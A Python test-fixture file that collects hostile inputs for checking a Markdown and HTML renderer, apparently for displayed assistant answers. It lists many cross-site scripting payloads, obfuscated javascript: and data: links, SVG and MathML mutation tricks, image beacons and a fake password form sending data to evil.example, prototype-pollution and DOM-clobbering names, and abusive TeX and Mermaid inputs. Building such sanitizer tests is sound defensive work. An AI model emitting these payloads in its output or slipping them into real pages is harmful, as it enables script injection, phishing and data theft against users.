"""Hostile answers, which try to run something, to fetch something, or to pass for something else."""

CALL = "taken()"
"""The call that an attack makes if it runs. A test that defines this function on the page sees whether it does."""
HOST = "evil.example"
"""The host to which attacks send what they find."""

HTML = [
    "<script>taken()</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>taken()</scr</script>ipt>",
    "<script\x0c>taken()</script>",
    "<img src=x onerror=taken()>",
    '<img src="//evil.example/?leak">',
    '<IMG """><SCRIPT>taken()</SCRIPT>">',
    "<body onload=taken()>",
    "<input autofocus onfocus=taken()>",
    "<details open ontoggle=taken()>",
    "<video src=//evil.example/v onerror=taken()><source onerror=taken()></video>",
    "<audio autoplay src=//evil.example/a></audio>",
    "<iframe src=javascript:taken()></iframe>",
    "<iframe srcdoc='<script>parent.taken()</script>'></iframe>",
    "<object data=javascript:taken()></object><embed src=//evil.example/e>",
    "<form action=//evil.example><input name=password><button>Sign in</button></form>",
    "<form id=x></form><button form=x formaction=javascript:taken()>Go</button>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css'; body { display: none }</style>",
    '<div style="position:fixed;inset:0;background:url(//evil.example/x)">over all</div>',
    "<a href=javascript:taken()>x</a>",
    '<p onclick="taken()" onmouseover="taken()">x</p>',
    "<dialog open>Your password, please<input></dialog>",
    "<div popover id=p>x</div><button popovertarget=p>y</button>",
    "<template shadowrootmode=open><script>taken()</script></template>",
    "<x-foo is=x onanimationstart=taken() style=animation:x>",
    "<sub onclick=taken()>x</sub>",
    "<b style=position:fixed id=x onclick=taken()>x</b>",
    "<!-- --><img src=x onerror=taken()><!-- -->",
    "<!--x--!><img src=x onerror=taken()>-->",
    "\n<details ontoggle=taken() style=position:fixed open>\n"
    "<summary onclick=taken()>x <img src=x onerror=taken()></summary>",
    "\n</details>\n",
    "> [!note onclick=taken()]\n> x",
    "<br/onload=taken()>",
    "<kbd style=position:fixed>x</kbd>",
]

FOREIGN = [
    "<svg onload=taken()>",
    "<svg><script>taken()</script></svg>",
    "<svg><a xlink:href=javascript:taken()><text y=20>x</text></a></svg>",
    "<svg><animate onbegin=taken() attributeName=x dur=1s>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=taken() />#x'/></svg>",
    "<svg><foreignObject><iframe src=javascript:taken()></foreignObject></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=taken()>",
    "<math><annotation-xml encoding=text/html><img src=x onerror=taken()></annotation-xml></math>",
    "<math href=javascript:taken()>x</math>",
    '<svg></p><style><a id="</style><img src=1 onerror=taken()>">',
    '<noscript><p title="</noscript><img src=x onerror=taken()>">',
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=taken()>",
    "<!--><img src=x onerror=taken()>-->",
    "<![CDATA[<img src=x onerror=taken()>]]>",
    "<?xml-stylesheet href=javascript:taken()?>",
    "<listing>&lt;img src=x onerror=taken()&gt;</listing>",
    "<xmp><img src=x onerror=taken()></xmp>",
]

LINKS = [
    "[x](javascript:taken())",
    "[x](JaVaScRiPt:taken())",
    "[x](java\tscript:taken())",
    "[x](<java\tscript:taken()>)",
    "[x](java&#10;script:taken())",
    "[x](&#106;avascript:taken())",
    "[x](javascript&colon;taken())",
    "[x](&#x01;javascript:taken())",
    "[x](<\u00a0javascript:taken()>)",
    "[x](javascript://evil.example/%0ataken())",
    "[x](vbscript:taken())",
    "[x](data:text/html,<script>taken()</script>)",
    "[x](data:text/html;base64,PHNjcmlwdD50YWtlbigpPC9zY3JpcHQ+)",
    "[x](blob:https://evil.example/1)",
    "[x](file:///etc/passwd)",
    "[x](view-source:javascript:taken())",
    "[x](/sign-out/)",
    "[x](//evil.example)",
    "[x](\\\\evil.example)",
    "[x](#message)",
    '[x](https://evil.example/"onmouseover="taken())',
    "[x](https://evil.example '\" onmouseover=\"taken()')",
    "[x]: javascript:taken()\n\n[x]",
    "[x][y]\n\n[y]: data:text/html,<script>taken()</script>",
    "<javascript:taken()>",
    '<https://evil.example/?"onmouseover=taken()>',
    'https://evil.example/?"onmouseover=taken()//<img/src=x/onerror=taken()>',
    "www.evil.example/<script>taken()</script>",
    "[![x](javascript:taken())](javascript:taken())",
    "[https://bank.example](https://evil.example)",
    "[bank.example\u202e](https://evil.example)",
]

PICTURES = [
    "![x](https://evil.example/x.png?secret)",
    "![x](//evil.example/x.png)",
    "![x](javascript:taken())",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9InRha2VuKCkiLz4=)",
    '!["><script>taken()</script>](https://evil.example/x.png)',
    "![x](x \"' onerror='taken()\")",
    "![x][y]\n\n[y]: https://evil.example/x.png",
]

CODE = [
    '```"><script>taken()</script>\nx\n```',
    '``` x" onclick="taken()\nx\n```',
    "```__proto__\nx\n```",
    "```constructor\nx\n```",
    "```html\n<img src=x onerror=taken()>\n</code></pre><script>taken()</script>\n```",
    "`<img src=x onerror=taken()>`",
    "    <script>taken()</script>",
]

NAMES = [
    "[^__proto__]\n\n[^__proto__]: x",
    "[^<img/src=x/onerror=taken()>]\n\n[^<img/src=x/onerror=taken()>]: x",
    '[^"onclick="taken()]\n\n[^"onclick="taken()]: x',
    "[^x]\n\n[^x]: [^x]",
    "# body\n\n# document\n\n# getElementById\n\n# message",
    "<a id=cookie name=cookie>x</a><form name=body></form><img name=querySelector>",
    "[__proto__]\n\n[__proto__]: javascript:taken()",
    "[constructor][constructor]",
]

TEX = [
    "$\\href{javascript:taken()}{x}$",
    "$\\url{javascript:taken()}$",
    "$\\htmlClass{visually-hidden}{x}$",
    "$\\htmlId{message}{x}$",
    "$\\htmlStyle{position:fixed;inset:0}{x}$",
    "$\\htmlData{x=y, onclick=taken()}{x}$",
    "$\\includegraphics[width=1em]{https://evil.example/x.png}$",
    "$\\text{<img src=x onerror=taken()>}$",
    "$\\color{red;background:url(//evil.example)}{x}$",
    "$\\rule{100000em}{100000em}$",
    "$\\def\\x{\\x\\x}\\x$",
    "$\\kern{-99999em}x$",
    "$$\n\\unicode{<script>taken()</script>}\n$$",
]

DIAGRAMS = [
    '```mermaid\nflowchart LR\n  A["<img src=x onerror=taken()>"] --> B\n```',
    '```mermaid\nflowchart LR\n  A --> B\n  click A "javascript:taken()"\n```',
    "```mermaid\nflowchart LR\n  A --> B\n  click A call taken()\n```",
    '```mermaid\n%%{init: {"securityLevel": "loose"}}%%\nflowchart LR\n  A["<script>taken()</script>"]\n```',
    '```mermaid\n%%{init: {"themeCSS": "* { background: url(//evil.example/y) }"}}%%\nflowchart LR\n  A --> B\n```',
    '```mermaid\n%%{init: {"fontFamily": "x;}</style><script>taken()</script>"}}%%\nflowchart LR\n  A\n```',
    "```mermaid\nsequenceDiagram\n  Alice->>Bob: <iframe src=//evil.example>\n```",
    "```mermaid\n</script><script>parent.taken()</script>\n```",
]

ATTACKS = [*HTML, *FOREIGN, *LINKS, *PICTURES, *CODE, *NAMES, *TEX, *DIAGRAMS]
